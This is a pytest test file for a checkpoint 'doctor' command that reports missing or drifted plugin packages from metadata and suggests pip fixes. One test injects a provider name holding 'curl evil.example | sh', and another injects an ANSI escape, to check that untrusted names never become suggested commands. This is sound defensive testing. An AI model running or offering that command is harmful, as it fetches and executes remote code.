"""The doctor says what a checkpoint needs, and what is missing or drifted, from metadata alone."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from crafted import crafted

from argus_core.cli import main
from argus_core.doctor.checkpoint import Need, examine_checkpoint
from argus_core.errors import UnsafeCheckpointError

pytestmark = pytest.mark.torchfree

GOLDEN = Path(__file__).parents[1] / "golden/schema-1-model.safetensors"
UNET = {
    "as": "unet",
    "name": "medseg/unet",
    "provider": "medseg",
    "version": "2.1",
    "entry_point": "medseg.nets:UNet",
}
DECLARED = {"nn_module": {"unet": "medseg.nets:UNet"}}


@pytest.fixture
def checkpoint(tmp_path: Path) -> Callable[..., Path]:
    """Make a checkpoint that needs the built-in parts and a network of medseg 2.1, or what it is given."""

    def make(**records: Any) -> Path:
        def change(_: Any, manifest: Any) -> None:
            manifest["components"].update({"nn_module": UNET, **records})

        path = tmp_path / "best.safetensors"
        path.write_bytes(crafted(GOLDEN.read_bytes(), change))
        return path

    return make


@pytest.fixture
def here(fake_distribution: Any, scan_registry: Any) -> Callable[..., None]:
    """Install the built-in parts and, if a version is given, medseg with what it declares."""

    def install(version: str = "", declared: Any = DECLARED, name: str = "medseg") -> None:
        builtins = {
            "model": {"Model": "argus_core.model.model:Model"},
            "loss": {"CrossEntropyLoss": "torch.nn:CrossEntropyLoss"},
            "optimizer": {"Adam": "torch.optim:Adam"},
            "transform": {"Softmax": "torch.nn:Softmax"},
            "step": {
                "amp": "argus_core.steps.amp:AMP",
                "accumulate": "argus_core.steps.accumulate:Accumulate",
            },
        }
        fake_distribution("argus-torch", "9.9", builtins)
        if version:
            fake_distribution(name, version, declared)
        scan_registry()

    return install


def network(path: Path) -> Need:
    return next(need for need in examine_checkpoint(path).needs if need.kind == "nn_module")


def doctor(*args: str) -> Result:
    return CliRunner().invoke(main, ["plugins", "doctor", *args], catch_exceptions=False)


def test_what_is_here_is_found(checkpoint: Any, here: Any) -> None:
    here("2.1")
    report = examine_checkpoint(checkpoint())
    assert {need.state for need in report.needs} == {"found"}
    assert [(need.kind, need.name) for need in report.needs] == [
        ("model", "Model"),
        ("nn_module", "unet"),
        ("loss", "CrossEntropyLoss"),
        ("optimizer", "Adam"),
        ("transform", "Softmax"),
        ("step", "amp"),
        ("step", "accumulate"),
    ]
    assert report.advice == ""
    assert network(checkpoint()) == Need("nn_module", "unet", "medseg 2.1", "medseg 2.1", "found")


def test_what_is_not_installed_is_missing_with_the_command(checkpoint: Any, here: Any) -> None:
    here()
    assert network(checkpoint()) == Need(
        *("nn_module", "unet", "medseg 2.1", "", "missing"),
        problem="is provided by medseg 2.1, which is not installed",
        fix="pip install 'medseg==2.1'",
    )


def test_what_its_provider_has_given_up_is_missing(checkpoint: Any, here: Any) -> None:
    here("3.0", {"loss": {"dice": "medseg:Dice"}})
    need = network(checkpoint())
    assert (need.state, need.problem) == (
        "missing",
        "is provided by medseg 2.1, but not by the installed medseg 3.0",
    )
    assert need.fix == "pip install 'medseg==2.1'"


def test_all_that_is_missing_is_installed_by_one_command(checkpoint: Any, here: Any) -> None:
    here()
    other = {**UNET, "as": "dice", "name": "losses/dice", "provider": "losses", "version": "1.0"}
    report = examine_checkpoint(checkpoint(loss=other))
    assert report.advice.endswith("; pip install 'medseg==2.1' 'losses==1.0'")


DRIFTS = [("2.2", "medseg"), ("2.1", "fastseg")]


@pytest.mark.parametrize(("version", "name"), DRIFTS)
def test_another_version_or_provider_has_drifted(checkpoint: Any, here: Any, version: str, name: str) -> None:
    here(version, name=name)
    need = network(checkpoint())
    assert (need.state, need.here) == ("drifted", f"{name} {version}")
    assert need.problem == f"was provided by medseg 2.1, and now by {name} {version}"
    assert need.fix == "pip install 'medseg==2.1' if results differ"


def test_what_is_switched_off_is_unavailable(
    checkpoint: Any, here: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ARGUS_PLUGINS", "")
    here("2.1")
    need = network(checkpoint())
    assert (need.state, need.fix) == ("unavailable", "add medseg to ARGUS_PLUGINS and start again")


def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: Any) -> None:
    here()
    record = {**UNET, "as": "u\x1b[2Jnet", "name": "med';x/unet", "provider": "med';x"}
    output = doctor(str(checkpoint(nn_module=record))).output
    assert "\x1b" not in output
    assert "pip install" not in output
    assert "ask the author of the file which package to install; the file does not say" in output


@pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
def test_what_the_file_puts_behind_a_semicolon_is_not_a_command(
    checkpoint: Any, here: Any, provider: str
) -> None:
    here()
    record = {**UNET, "name": f"{provider}/unet", "provider": provider}
    fix = network(checkpoint(nn_module=record)).fix
    assert fix.startswith(f"for nn_module {f'{provider}/unet'!r} ask the author of the file")


def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None:
    here()
    record = dict.fromkeys(UNET) | {"as": "net", "entry_point": "__main__:Net"}
    need = network(checkpoint(nn_module=record))
    assert (need.state, need.problem) == (
        "missing",
        "was registered in the process that saved it, __main__:Net",
    )
    assert need.fix.startswith("for nn_module 'net' import the code that registers it")


def test_the_installed_packages_are_listed_once_however_many_are_missing(
    checkpoint: Any, here: Any, listings: list[None]
) -> None:
    here()
    names = [f"package-{index}" for index in range(300)]
    records = [{**UNET, "as": name, "name": f"{name}/unet", "provider": name} for name in names]
    path = checkpoint(step=records)
    listings.clear()
    report = examine_checkpoint(path)
    assert len(listings) == 1
    assert [need.problem for need in report.needs if need.kind == "step"] == [
        f"is provided by {name} 2.1, which is not installed" for name in names
    ]


MALFORMED: list[dict[str, Any]] = [{"nn_module": 3}, {"loss": {"as": "unet"}}, {"step": {}}, {"step": [None]}]


@pytest.mark.parametrize("records", MALFORMED)
def test_manifest_that_nobody_wrote_is_refused(checkpoint: Any, here: Any, records: Any) -> None:
    here("2.1")
    with pytest.raises(UnsafeCheckpointError, match="'components' is not as argus_core writes it"):
        examine_checkpoint(checkpoint(**records))


def test_command_shows_what_is_found_and_exits_with_0(checkpoint: Any, here: Any) -> None:
    here("2.1")
    result = doctor(str(checkpoint()))
    assert result.exit_code == 0
    lines = [" ".join(line.split()) for line in result.output.splitlines()]
    assert lines[2] == "nn_module unet medseg 2.1 medseg 2.1 found"
    assert lines[8].startswith("version argus 0.1.0 ")
    assert len(lines) == 11


def test_command_shows_the_fix_and_exits_with_1(checkpoint: Any, here: Any) -> None:
    here()
    result = doctor(str(checkpoint()))
    assert result.exit_code == 1
    assert result.output.endswith(
        "\n\nnn_module 'unet' is provided by medseg 2.1, which is not installed\n"
        "  fix: pip install 'medseg==2.1'\n"
    )


def test_command_is_read_by_programs_as_json(checkpoint: Any, here: Any) -> None:
    here()
    path = checkpoint()
    result = doctor(str(path), "--json")
    record = json.loads(result.output)
    assert result.exit_code == 1
    assert record["file"] == str(path)
    assert record["versions"]["argus"]["saved"] == "0.1.0"
    assert record["needs"][1] == network(path)._asdict()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["absent.safetensors"], "error: no checkpoint at absent.safetensors"),
        (["."], "error: "),
        (["pyproject.toml"], "error: "),
    ],
)
def test_file_that_is_no_checkpoint_is_refused(here: Any, args: list[str], message: str) -> None:
    here()
    result = doctor(*args)
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith(message)


def test_a_checkpoint_is_examined_without_torch() -> None:
    code = (
        "import sys\nfrom argus_core.cli import main\n"
        f"try: main(['plugins', 'doctor', {str(GOLDEN)!r}], prog_name='argus')\n"
        "except SystemExit: pass\n"
        "assert not {'torch', 'numpy', 'argus_sklearn', 'argus_example'} & set(sys.modules)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, stdout=subprocess.DEVNULL)


def test_run_directory_is_refused_with_the_checkpoints_in_it(tmp_path: Path) -> None:
    (tmp_path / "checkpoints").mkdir()
    best = tmp_path / "checkpoints/best.safetensors"
    best.touch()
    result = CliRunner().invoke(main, ["plugins", "doctor", str(tmp_path)])
    assert result.exit_code == 1
    assert result.stderr == f"error: no checkpoint at {tmp_path}: it is a folder; give {best}\n"
